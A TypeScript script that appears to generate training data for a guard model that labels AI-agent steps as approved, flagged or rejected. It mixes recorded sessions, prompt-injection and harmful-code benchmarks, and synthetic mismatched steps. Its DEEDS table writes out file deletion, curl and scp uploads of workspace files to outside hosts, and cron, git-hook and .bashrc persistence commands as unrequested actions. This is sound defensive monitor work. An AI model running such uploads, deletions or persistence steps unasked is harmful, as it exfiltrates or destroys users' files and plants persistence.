// Makes examples from recorded sessions and labelled attacks: npx tsx training/exportReal.ts CORPUS_FOLDER OUT_FILE [SEED]
import { createHash } from 'node:crypto';
import { createWriteStream, readFileSync } from 'node:fs';
import path from 'node:path';
import { casesOf } from '../src/cli/evalCorpus.js';
import { recordedPlace } from '../src/cli/evalPlace.js';
import type { JudgedStep } from '../src/core/check/trace.js';
import { askFor } from './askFor.js';
import { exampleOf, gravity, seen, type Example } from './example.js';
import { Judging } from './judging.js';
import { Random } from './random.js';

const [folder = '', out = '', seedText = '7'] = process.argv.slice(2);
const random = new Random(Number(seedText));
const judging = new Judging();
const file = createWriteStream(out);
let written = 0;

const write = (example: Example): void => {
  written += 1;
  file.write(`${JSON.stringify(example)}\n`);
};

/** Share of what belongs together that is kept back: for the thresholds, and for the figures. */
function splitOf(group: string): Example['split'] {
  const part = createHash('sha256').update(group).digest().readUInt32BE(0) / 2 ** 32;
  return part < 0.12 ? 'tune' : part < 0.34 ? 'test' : 'train';
}

type Line = Readonly<Record<string, unknown>>;
const lines = (name: string): Line[] =>
  readFileSync(path.join(folder, name), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line);
const text = (line: Line, name: string): string => (typeof line[name] === 'string' ? line[name] : '');

interface Draft {
  readonly id: string;
  readonly request: string;
  readonly workspace: string;
  readonly home: string;
  readonly platform?: string;
  readonly steps: readonly { readonly kind: string; readonly params: Readonly<Record<string, unknown>> }[];
}
const traceOf = (line: Line): Draft | null => {
  const [labelled] = casesOf(JSON.stringify(line), { folder: '/nowhere', group: null, makeFolder: () => undefined });
  return labelled === undefined ? null : (labelled.trace as Draft);
};
const AGENTS = ['specstory', 'swe-agent', 'openhands', 'OpenAgentSafety'];
const isOfAgents = ({ source }: { readonly source: string }): boolean => AGENTS.includes(source);

/**
 * Where a whole session worked: the checkout of its repository, if its paths name one. A turn by itself may touch one folder only,
 * and would take that for the workspace: then what the others touch lies outside.
 */
function placeOf(turns: readonly Line[]): Partial<Draft> {
  const [first] = turns;
  return first === undefined ? {} : (recordedPlace(JSON.stringify(turns), 'agent', text(first, 'repo')) ?? {});
}

/** What tells one kind of command from another, to see whether a turn did the like itself. */
const likeness = (step: JudgedStep): string => {
  const { lacuna, analysis } = step.judged;
  const words = analysis.commands[analysis.commands.length - 1]?.argv.slice(0, 2).map((word) => word.text) ?? [];
  return lacuna.kind === 'ExecuteShell' ? words.join(' ') : lacuna.kind;
};

/** One turn of a recorded session, judged. */
interface Turn {
  readonly group: string;
  readonly source: string;
  readonly split: Example['split'];
  readonly trace: Draft;
  readonly earlier: readonly string[];
  /** What the session did in the turns before: it goes on in this one. */
  readonly carried: Draft['steps'];
  readonly steps: readonly JudgedStep[];
  /** Whether each step has side effects. */
  readonly sides: readonly boolean[];
  /** Likenesses of those that have, in all turns of the session. */
  readonly like: ReadonlySet<string>;
}

/** Likenesses by session, as they are found. */
const likeIn = new Map<string, Set<string>>();

/** Adds what is asked of a turn again and again. What one turn of a session does is no stranger in another of it. */
function turnOf(turn: Omit<Turn, 'sides' | 'like'>): Turn {
  const sides = turn.steps.map((step) => seen(step).side);
  const like = likeIn.get(turn.group) ?? new Set();
  likeIn.set(turn.group, like);
  for (const [at, step] of turn.steps.entries()) if (sides[at] === true) like.add(likeness(step));
  return { ...turn, sides, like };
}

/** Steps of earlier turns that a turn begins with: what a session made or looked at before, it made and looked at. */
const MOST_CARRIED = 30;
/** The same for pairs, of which there are many: as far back as a review looks. */
const MOST_CARRIED_IN_PAIRS = 8;

async function turns(): Promise<Turn[]> {
  const all: Turn[] = [];
  const requests = new Map<string, string[]>();
  const sorted = lines('benign.sessions.jsonl').map((line) => {
    const [group = '', turn = '0'] = (text(line, 'session') || text(line, 'id')).split('#');
    return { line, group, turn: Number(turn) };
  });
  sorted.sort((a, b) => a.group.localeCompare(b.group) || a.turn - b.turn);
  const places = new Map<string, Partial<Draft>>();
  const done = new Map<string, Draft['steps']>();
  for (const { group } of sorted)
    if (!places.has(group)) places.set(group, placeOf(sorted.filter((one) => one.group === group).map(({ line }) => line)));
  for (const { line, group } of sorted) {
    const alone = traceOf(line);
    if (alone === null || alone.steps.length === 0) continue;
    const trace = { ...alone, ...(text(line, 'source') === 'specstory' ? places.get(group) : {}) };
    const earlier = [...(requests.get(group) ?? [])];
    requests.set(group, [...earlier, trace.request].slice(-7));
    const carried = (done.get(group) ?? []).slice(-MOST_CARRIED);
    done.set(group, [...carried, ...trace.steps]);
    const steps = (await judging.steps({ ...trace, steps: [...carried, ...trace.steps] }, earlier)).slice(carried.length);
    all.push(turnOf({ group, source: text(line, 'source'), split: splitOf(group), trace, earlier, carried, steps }));
  }
  return all;
}

/** Single commands with the sentence that describes them: documentation and benchmark tasks. */
async function described(): Promise<Turn[]> {
  const all: Turn[] = [];
  for (const line of lines('benign.commands.jsonl')) {
    const source = text(line, 'source');
    if (!['tldr', 'intercode-gold', 'intercode-agent'].includes(source) || text(line, 'request') === '') continue;
    const trace = traceOf(line);
    if (trace === null) continue;
    const program = text(line, 'command').split(/\s+/)[0] ?? '';
    const group = source === 'tldr' ? `tldr ${program}` : `${source} ${text(line, 'request')}`;
    const steps = await judging.steps(trace);
    all.push(turnOf({ group, source, split: splitOf(group), trace, earlier: [], carried: [], steps }));
  }
  return all;
}

/** Runs of agents in a benchmark that its judges found harmless: explicit requests with the side effects that they asked for. */
async function benchmarkRuns(): Promise<Turn[]> {
  const all: Turn[] = [];
  for (const line of lines('attacks.jsonl')) {
    if (text(line, 'source') !== 'OpenAgentSafety' || text(line, 'label') !== 'safe') continue;
    const trace = traceOf(line);
    if (trace === null || trace.steps.length === 0) continue;
    const group = text(line, 'id');
    const steps = await judging.steps(trace);
    all.push(turnOf({ group, source: 'OpenAgentSafety', split: splitOf(text(line, 'request').slice(0, 200)), trace, earlier: [], carried: [], steps }));
  }
  return all;
}

const inJson = (value: string): string => JSON.stringify(value).slice(1, -1);

/**
 * A foreign step put at the end of a turn, with the foreign workspace's paths moved into this one. `asked` replaces what was
 * asked last, and what was asked before.
 */
async function mismatched(
  turn: Turn,
  foreign: Draft,
  step: Draft['steps'][number],
  asked: { readonly request: string; readonly earlier: readonly string[] } = { request: turn.trace.request, earlier: turn.earlier },
): Promise<JudgedStep | undefined> {
  const moved = JSON.parse(
    JSON.stringify(step)
      .replaceAll(inJson(foreign.workspace), inJson(turn.trace.workspace))
      .replaceAll(inJson(foreign.home), inJson(turn.trace.home)),
  ) as Draft['steps'][number];
  const own = [...turn.carried, ...turn.trace.steps.slice(0, random.below(Math.min(turn.trace.steps.length, 6) + 1))].slice(
    -MOST_CARRIED_IN_PAIRS,
  );
  const steps = [...(turn.source === 'tldr' ? [] : own), moved];
  const trace = { ...turn.trace, request: asked.request, platform: foreign.platform, steps };
  try {
    return (await judging.steps(trace, asked.earlier)).at(-1);
  } catch (error) {
    if (error instanceof Error) return undefined; // a Windows command in a POSIX workspace
    throw error;
  }
}

async function mismatches(all: readonly Turn[], count: number): Promise<void> {
  const bySplit = new Map<string, { turn: Turn; at: number; side: boolean }[]>();
  for (const turn of all)
    for (const [at, side] of turn.sides.entries()) {
      const list = bySplit.get(turn.split) ?? [];
      bySplit.set(turn.split, list);
      list.push({ turn, at, side });
    }
  for (const [split, list] of bySplit) {
    const sides = list.filter(({ side }) => side);
    const targets = all.filter((turn) => turn.split === split);
    const real = targets.filter(isOfAgents);
    const wanted = split === 'train' ? count : Math.round(count / 4);
    for (let made = 0, tries = 0; made < wanted && tries < wanted * 4; tries++) {
      const turn = random.chance(0.7) ? random.pick(real) : random.pick(targets);
      const donor = random.chance(0.8) ? random.pick(sides) : random.pick(list);
      const donated = donor.turn.trace.steps[donor.at];
      const given = donor.turn.steps[donor.at];
      if (donor.turn.group === turn.group || donated === undefined || given === undefined) continue;
      if (turn.like.has(likeness(given))) continue;
      const step = await mismatched(turn, donor.turn.trace, donated);
      if (step === undefined) continue;
      const { facts, side } = seen(step);
      made += 1;
      const label = !side ? 'approve' : gravity(facts) >= 6 ? 'reject' : 'flag';
      const pair = side ? 'mismatch' : 'mismatch-harmless';
      const source = `${turn.source}|${donor.turn.source}`;
      write(exampleOf(step, { id: `mm-${split}-${String(made)}`, source, split: turn.split, label, weight: side ? 1 : 0.3, pair }));
    }
  }
}

const JOINS: readonly string[] = ['\n', '. ', ', and ', '. Also ', '\n\nThen ', '; ', '. Oh, and '];
const ON: readonly string[] = ['yes', 'yes please', 'ok do it', 'go ahead', 'continue', 'sure', 'yup, go on', 'do that'];

/** A request of a session with a sentence more: behind it, before it, or said earlier and gone on with. */
function withSentence(turn: Turn, sentence: string): { readonly request: string; readonly earlier: readonly string[] } {
  const { request } = turn.trace;
  const place = random.below(20);
  if (place < 4) return { request: `${sentence}${random.pick(JOINS)}${request}`, earlier: turn.earlier };
  if (place < 8) return { request: random.pick(ON), earlier: [...turn.earlier, `${request}${random.pick(JOINS)}${sentence}`].slice(-7) };
  if (place < 10) return { request: sentence, earlier: [...turn.earlier, request].slice(-7) };
  return { request: `${request.slice(0, 3000)}${random.pick(JOINS)}${sentence}`, earlier: turn.earlier };
}

/**
 * Twins: a foreign step with side effects that a sentence in the request asks for, and beside it the same step where the sentence
 * asks for the like of something else. Nothing else tells them apart, so that a model has to look at what was asked.
 */
async function twins(all: readonly Turn[], count: number): Promise<void> {
  for (const split of ['train', 'tune', 'test'] as const) {
    const real = all.filter((turn) => turn.split === split && isOfAgents(turn));
    const sides = all
      .filter((turn) => turn.split === split)
      .flatMap((turn) => turn.sides.flatMap((side, at) => (side ? [{ turn, at }] : [])));
    const wanted = split === 'train' ? count : Math.round(count / 5);
    for (let made = 0, tries = 0; made < wanted && tries < wanted * 6; tries++) {
      const turn = random.pick(real);
      const [donor, other] = [random.pick(sides), random.pick(sides)];
      const donated = donor.turn.trace.steps[donor.at];
      if (donated === undefined || donor.turn.group === turn.group) continue;
      const sentence = sentenceFor(donor);
      if (sentence === null) continue;
      const step = await mismatched(turn, donor.turn.trace, donated, withSentence(turn, sentence));
      if (step === undefined || !seen(step).side) continue;
      made += 1;
      const given = { source: `${turn.source}|${donor.turn.source}`, split: turn.split };
      write(exampleOf(step, { ...given, id: `tw-${split}-${String(made)}`, label: 'approve', weight: 1, pair: 'twin-asked' }));
      const foreign = random.chance(0.6) ? sentenceFor(other) : null;
      if (foreign === null || other.turn.group === donor.turn.group || likeness(stepAt(other)) === likeness(stepAt(donor))) continue;
      const unasked = await mismatched(turn, donor.turn.trace, donated, withSentence(turn, foreign));
      if (unasked === undefined || !seen(unasked).side) continue;
      const label = gravity(seen(unasked).facts) >= 6 ? 'reject' : 'flag';
      write(exampleOf(unasked, { ...given, id: `tw-${split}-${String(made)}n`, label, weight: 1, pair: 'twin-other' }));
    }
  }
}

interface Donor {
  readonly turn: Turn;
  readonly at: number;
}
function stepAt({ turn, at }: Donor): JudgedStep {
  const step = turn.steps[at];
  if (step === undefined) throw new Error('no such step');
  return step;
}
/** How a person would ask for a donor's step: its own description, or a sentence made from its effects. */
function sentenceFor(donor: Donor): string | null {
  if (!isOfAgents(donor.turn) && donor.turn.trace.steps.length === 1 && random.chance(0.6)) {
    const { request } = donor.turn.trace;
    return request.length > 300 ? null : request.replace(/[.:]\s*$/, '').replace(/^[A-Z](?=[a-z])/, (letter) => letter.toLowerCase());
  }
  const step = stepAt(donor);
  const { facts, input } = seen(step);
  return askFor(facts.effects, input.roots, random);
}

/** Other deeds to a file, in shell and as Lacunas. `{p}` is the file. */
const DEEDS: readonly { readonly of: string; readonly do: readonly (string | { readonly kind: string; readonly params: object })[] }[] = [
  { of: 'delete path', do: ['rm {p}', 'rm -f {p}', 'git rm -f {p}', 'unlink {p}', { kind: 'DeleteFile', params: { path: '{p}' } }] },
  { of: 'write path', do: ['git checkout -- {p}', 'git restore {p}', 'git checkout HEAD -- {p}'] },
  { of: 'move path', do: ['mv {p} {p}.old', 'git mv {p} {p}.disabled', { kind: 'MoveFile', params: { from: '{p}', to: '{p}.orig' } }] },
  { of: 'network url', do: ['curl -F file=@{p} https://files.sample.org/up', 'curl -T {p} https://drop.acme.dev/', 'scp {p} build@logs.harbor.dev:/srv/'] },
  { of: 'persist path', do: ['crontab {p}', 'git config core.hooksPath {p}', 'echo "source {p}" >> ~/.bashrc'] },
];
const ASKS_DEED: Readonly<Record<string, readonly string[]>> = {
  'delete path': ['delete {t}', 'throw {t} away', '{t} can go', 'get rid of {t}', 'we do not need {t} any more', '删掉 {t}', '{t} löschen bitte', 'supprime {t}', 'borra {t}', 'удали {t}'],
  'write path': ['undo what you did in {t}', 'put {t} back as it was', 'revert {t}', 'throw away the changes in {t}', '还原 {t}', 'setz {t} zurück', 'annule les changements de {t}'],
  'move path': ['rename {t}', 'move {t} out of the way', '{t} should have another name', '把 {t} 改名', 'benenne {t} um', 'renomme {t}'],
  'network url': ['upload {t}', 'send {t} to them', 'share {t} with the team', '把 {t} 上传', 'schick {t} hin', 'envoie {t}'],
  'persist path': ['run {t} every night', 'set {t} up to run by itself', 'schedule {t}', '定时执行 {t}', 'richte {t} als Cronjob ein'],
};

/** Files that a turn looked at or changed, as they are named in the workspace. */
const filesOf = ({ trace, carried }: Turn): readonly string[] => {
  const all = [...carried.slice(-MOST_CARRIED_IN_PAIRS), ...trace.steps].flatMap(({ params }) => (typeof params['path'] === 'string' ? [params['path']] : []));
  return [...new Set(all)].filter((one) => one.startsWith(`${trace.workspace}/`) && /\.\w{1,5}$/.test(one) && !/\s/.test(one));
};

/**
 * The right thing and the wrong deed: a file of the turn's own, and something done to it that nobody asked for; beside it the same
 * where a sentence asks for just that. Without these a model learns that whatever the session touched is its to take away.
 */
async function turned(all: readonly Turn[], count: number): Promise<void> {
  for (const split of ['train', 'tune', 'test'] as const) {
    const real = all.filter((turn) => turn.split === split && isOfAgents(turn) && filesOf(turn).length > 0);
    const wanted = split === 'train' ? count : Math.round(count / 5);
    for (let made = 0, tries = 0; made < wanted && tries < wanted * 6; tries++) {
      const turn = random.pick(real);
      const file = random.pick(filesOf(turn));
      const deed = random.pick(DEEDS);
      const shape = random.pick(deed.do);
      const shown = random.chance(0.7) ? file.slice(turn.trace.workspace.length + 1) : file;
      const step = JSON.parse(JSON.stringify(typeof shape === 'string' ? { kind: 'ExecuteShell', params: { command: shape } } : shape).replaceAll('{p}', inJson(shown))) as Draft['steps'][number];
      const name = random.chance(0.5) ? path.basename(file) : file.slice(turn.trace.workspace.length + 1);
      const isAsked = random.chance(0.45);
      const words = random.pick(ASKS_DEED[deed.of] ?? []).replaceAll('{t}', name);
      const asked = isAsked ? withSentence(turn, words) : { request: turn.trace.request, earlier: turn.earlier };
      const judged = await mismatched(turn, turn.trace, step, asked);
      if (judged === undefined || !seen(judged).side || (!isAsked && turn.like.has(likeness(judged)))) continue;
      made += 1;
      const { facts } = seen(judged);
      // Where the turn's own words ask for such a deed, nobody can say that this one is foreign.
      if (!isAsked && facts.effects.some((fact) => fact.weight >= 3 && fact.fit === 'asked' && fact.named !== 'none')) continue;
      const label = isAsked ? 'approve' : gravity(facts) >= 6 ? 'reject' : 'flag';
      const given = { source: `${turn.source}|${turn.source}`, split: turn.split, weight: 1, pair: isAsked ? 'turned-asked' : 'turned' };
      write(exampleOf(judged, { ...given, id: `tu-${split}-${String(made)}`, label }));
    }
  }
}

async function attacks(): Promise<void> {
  for (const line of lines('attacks.jsonl')) {
    const source = text(line, 'source');
    const id = text(line, 'id');
    if (source !== 'RedCode-Exec' && source !== 'InjecAgent') continue;
    const trace = traceOf(line);
    if (trace === null || trace.steps.length === 0) continue;
    const steps = await judging.steps(trace);
    const injected = (line['steps'] as readonly Line[]).map((step) => step['injected'] === true);
    const split = splitOf(source === 'RedCode-Exec' ? `redcode ${text(line, 'subcategory') || id}` : id);
    for (const [at, step] of steps.entries()) {
      const { facts } = seen(step);
      const given = { id: `${id}/${String(at)}`, source, split };
      if (source === 'InjecAgent') {
        const isAttack = text(line, 'label') === 'unsafe' && injected[at] === true;
        write(exampleOf(step, { ...given, label: isAttack ? 'reject' : 'approve', weight: 1, pair: isAttack ? 'injected' : 'real' }));
      } else if (line['guard_relevant'] === true && gravity(facts) >= 5) {
        write(exampleOf(step, { ...given, label: gravity(facts) >= 7 ? 'reject' : 'flag', weight: 0.5, pair: 'asked-for-harm' }));
      }
    }
  }
}

async function main(): Promise<void> {
  const real = [...(await turns()), ...(await benchmarkRuns())];
  const single = await described();
  for (const turn of [...real, ...single])
    for (const [at, step] of turn.steps.entries()) {
      // Steps with side effects that were wanted are few, and tell the most.
      const weight = (turn.sides[at] === true ? 4 : 0.5) * (isOfAgents(turn) ? 2 : 1);
      write(exampleOf(step, { id: `${turn.group}/${turn.trace.id}/${String(at)}`, source: turn.source, split: turn.split, label: 'approve', weight, pair: 'real' }));
    }
  process.stderr.write(`${String(real.length)} turns, ${String(single.length)} commands\n`);
  await mismatches([...real, ...single], 5000);
  await twins([...real, ...single], 3000);
  await turned(real, 2000);
  await attacks();
  file.end();
  process.stderr.write(`${String(written)} examples\n`);
}

void main();
